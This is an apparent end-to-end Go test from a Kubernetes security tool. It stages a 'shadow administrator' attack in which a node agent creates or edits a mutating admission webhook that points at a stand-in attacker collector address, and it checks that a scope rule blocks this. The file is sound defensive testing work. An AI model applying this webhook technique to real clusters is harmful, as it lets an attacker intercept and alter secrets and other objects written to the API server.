// Copyright The Bulkhead Authors
// SPDX-License-Identifier: Apache-2.0

package attacks_test

import (
	"context"
	"fmt"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/bulkhead-k8s/bulkhead/e2e/fixtures"
	. "github.com/bulkhead-k8s/bulkhead/e2e/framework"
)

var (
	mutatingWebhooks = admissionregistrationv1.SchemeGroupVersion.WithResource("mutatingwebhookconfigurations")
	mayEditWebhooks  = []rbacv1.PolicyRule{
		right(admissionregistrationv1.GroupName, []string{"get", "create", "patch"}, mutatingWebhooks.Resource),
		right("", []string{"create"}, "events"),
	}
)

// collector is where the attacker listens. No connection succeeds there, so the API server reports
// the address in its error.
const collector = "https://127.0.0.1:9/collect"

var _ = tell(Story{
	ID: "T13", Title: "A node agent makes itself an admission webhook: the shadow administrator",
	Source: "Unit 42, GKE Autopilot vulnerabilities (2022); rbac-police control_webhooks",
	Effect: "The ClusterRole of the agent has patch or create on webhook configurations. The API server then sends " +
		"every object that is written, secrets too, to the attacker, who may change it.",
	Stops: "With *.admissionregistration.k8s.io in its scope, an account writes no webhook configuration: a node " +
		"has no such right.",
	Attempts: []Attempt{
		{
			Name: "editing a webhook that exists", Effect: "the API server sends new config maps to the attacker's address",
			By: daemon, Rights: mayEditWebhooks, Rule: "NS-SCOPE-1", Text: "[NA-DEFAULT]",
			Prepare: func(ctx context.Context, r *Run) {
				r.Namespace(ctx)
				existing := webhook(ctx, r, "https://127.0.0.1:9/inject", "pods/ephemeralcontainers")
				r.Put(ctx, existing)
				r.Names["webhook"] = existing.Name
				ownEvent(ctx, r)
			},
			Attack: func(ctx context.Context, r *Run, who *Identity) Answer {
				edited := webhook(ctx, r, collector, "configmaps")
				return r.Send(ctx, who, Patch(mutatingWebhooks).Named(r.Names["webhook"]).
					With(fields{"webhooks": edited.Webhooks}).Stored())
			},
			Show:   collects,
			TwinIs: "an event about its pod instead of the webhook",
			Twin:   sends(func(r *Run) Request { return Create(api.Events).In(stage.Namespace).With(eventAbout(r)) }),
		},
		{
			Name: "creating a webhook", Effect: "the API server sends new config maps to the attacker's address",
			By: daemon, Rights: mayEditWebhooks, Rule: "NS-SCOPE-1", Text: "[NA-DEFAULT]",
			Prepare: func(ctx context.Context, r *Run) {
				r.Namespace(ctx)
				ownEvent(ctx, r)
			},
			Attack: func(ctx context.Context, r *Run, who *Identity) Answer {
				created := webhook(ctx, r, collector, "configmaps")
				DeferCleanup(func(ctx context.Context) error {
					err := r.Objects.Delete(ctx, created)
					return ignoreNotFound(err)
				})
				return r.Send(ctx, who, Create(mutatingWebhooks).With(created).Stored())
			},
			Show:   collects,
			TwinIs: "an event about its pod instead of the webhook",
			Twin:   sends(func(r *Run) Request { return Create(api.Events).In(stage.Namespace).With(eventAbout(r)) }),
		},
	},
})

// webhook returns a configuration for one resource in the namespace of the spec.
func webhook(ctx context.Context, r *Run, url, resource string) *admissionregistrationv1.MutatingWebhookConfiguration {
	return &admissionregistrationv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: r.NewName("e2e-shadow")},
		Webhooks: []admissionregistrationv1.MutatingWebhook{{
			Name: "inject.example.com", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
			Rules: []admissionregistrationv1.RuleWithOperations{{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"},
					Resources: []string{resource}},
			}},
			NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{
				corev1.LabelMetadataName: r.Namespace(ctx)}},
			SideEffects: ptr.To(admissionregistrationv1.SideEffectClassNone), AdmissionReviewVersions: []string{"v1"},
			FailurePolicy: ptr.To(admissionregistrationv1.Fail), TimeoutSeconds: ptr.To[int32](5),
		}},
	}
}

// collects expects that the API server calls the attacker's address for a new config map.
func collects(ctx context.Context, r *Run, _ Answer) {
	GinkgoHelper()
	namespace := r.Namespace(ctx)
	Eventually(ctx, func() string {
		_, err := r.Client.CoreV1().ConfigMaps(namespace).Create(ctx, fixtures.ConfigMap(namespace, r.NewName("any")),
			metav1.CreateOptions{})
		return fmt.Sprint(err)
	}).WithTimeout(Soon).Should(And(ContainSubstring("failed calling webhook"), ContainSubstring(collector)))
	r.Say("The API server sends each new config map of the namespace to %s.", collector)
}

// ownEvent reads the attacker's pod, which the twin writes an event about.
func ownEvent(ctx context.Context, r *Run) {
	GinkgoHelper()
	pod, err := r.Client.CoreV1().Pods(stage.Namespace).Get(ctx, scoped, metav1.GetOptions{})
	Expect(err).NotTo(HaveOccurred())
	r.Pod = pod
}

func eventAbout(r *Run) *corev1.Event {
	return fixtures.EventAbout(r.Pod, r.NewName("event"), r.Attacker())
}
